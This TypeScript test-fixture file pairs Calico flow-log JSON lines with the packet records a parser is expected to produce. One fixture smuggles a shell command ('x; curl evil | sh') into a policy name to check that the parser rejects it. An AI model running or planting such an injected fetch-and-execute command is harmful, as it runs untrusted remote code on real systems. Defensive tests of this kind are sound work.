import type { Row } from './rows.ts';

const logger = 'calico-flow';
const worker = 'batch/worker-84f9d6c5bb-*';
const postgres = 'shop/postgres-*';
const flow = (protocol: string, source: string, destination: string, destinationPort?: number) =>
  ({
    kind: 'packet',
    logger,
    packet: { source, destination, protocol, sourcePort: undefined, destinationPort },
  }) as const;
const tcp = flow('TCP', worker, postgres, 5432);

const from = { source_name: 'worker-84f9d6c5bb-*', source_namespace: 'batch', source_type: 'WorkloadEndpoint' };
const to = { dest_name: 'postgres-*', dest_namespace: 'shop', dest_type: 'WorkloadEndpoint' };
const key = { ...from, ...to, dest_port: 5432, proto: 'tcp', reporter: 'Dst', action: 'Deny' };
const hit = { kind: 'NetworkPolicy', namespace: 'shop', name: 'postgres', tier: 'default' };

const text = (given: object, counts: object = { packets_in: 3 }): string =>
  JSON.stringify({ Key: { ...key, ...given }, start_time: 1_795_257_900, ...counts });
const policies = (...enforced_policies: object[]): string => text({ policies: { enforced_policies } });

/** Flows of Calico's Felix, as Goldmane has them. */
export const calicoFlowLines: Row[] = [
  {
    id: 'Calico flow, refused by the end of a tier',
    text: policies({ kind: 'EndOfTier', tier: 'default', action: 'Deny', trigger: hit }),
    expected: { ...tcp, verdict: 'dropped', policySide: 'receiver', repeat: 3, policy: { ...hit, tier: undefined } },
  },
  {
    id: 'Calico flow, denied by a rule after another tier has passed it on',
    text: policies(
      { kind: 'GlobalNetworkPolicy', name: 'triage', tier: 'platform', action: 'Pass' },
      { kind: 'CalicoNetworkPolicy', namespace: 'shop', name: 'postgres', tier: 'default', action: 'Deny' },
    ),
    expected: {
      ...tcp,
      policy: { kind: 'NetworkPolicy.projectcalico.org', namespace: 'shop', name: 'postgres', tier: 'default' },
    },
  },
  {
    id: 'Calico flow, denied by a profile, which is no policy',
    text: policies({ kind: 'Profile', name: 'kns.shop', action: 'Deny' }),
    expected: { ...tcp, policy: undefined },
  },
  {
    id: 'Calico flow, a policy of a kind that is newer',
    text: policies({ kind: 12, name: 'postgres', tier: 'default', action: 'Deny' }),
    expected: { ...tcp, policy: undefined },
  },
  {
    id: 'Calico flow, a policy whose name is none',
    text: policies({ ...hit, name: 'x; curl evil | sh', action: 'Deny' }),
    expected: { ...tcp, policy: undefined },
  },
  {
    id: 'Calico flow, allowed',
    text: text({ action: 'Allow', reporter: 'Src', policies: { enforced_policies: [{ ...hit, action: 'Allow' }] } }),
    expected: { ...tcp, verdict: 'accepted', policySide: 'sender', policy: undefined },
  },
  {
    id: 'Calico flow, a Pod without a controller to a public network',
    text: text({
      source_name: 'netcheck',
      dest_name: 'pub',
      dest_namespace: '-',
      dest_type: 'Network',
      reporter: 'Src',
    }),
    expected: { ...flow('TCP', 'batch/netcheck', 'public network', 5432), policySide: 'sender' },
  },
  {
    id: 'Calico flow, a host to a set of networks of the cluster',
    text: text({
      source_name: 'node-b',
      source_namespace: '-',
      source_type: 'HostEndpoint',
      dest_name: 'partners',
      dest_namespace: '-',
      dest_type: 'NetworkSet',
      proto: 'udp',
    }),
    expected: flow('UDP', 'Node node-b', 'GlobalNetworkSet partners', 5432),
  },
  {
    id: 'Calico flow, ICMP has no port',
    text: text({ proto: 'icmp', dest_port: 0 }),
    expected: flow('ICMP', worker, postgres),
  },
  {
    id: 'Calico flow, connections without a count of packets',
    text: text({}, { num_connections_started: 2 }),
    expected: { ...tcp, repeat: 2 },
  },
  { id: 'Calico flow, without a packet in its interval', text: text({}, {}), expected: undefined },
  {
    id: 'Calico flow, names that no Pod has',
    text: text({ source_name: 'Worker *', source_namespace: 'batch' }),
    expected: { kind: 'unparsable', format: logger },
  },
  {
    id: 'Calico flow, an end of a kind that is newer',
    text: text({ dest_type: 7 }),
    expected: { kind: 'unparsable', format: logger },
  },
  {
    id: 'Calico flow, an action that is newer',
    text: text({ action: 9 }),
    expected: { kind: 'unparsable', format: logger },
  },
  { id: 'Calico flow, cut off', text: text({}).slice(0, 200), expected: { kind: 'unparsable', format: logger } },
  { id: 'JSON of another program with source types', text: '{"source_type":"file","path":"/x"}', expected: undefined },
];
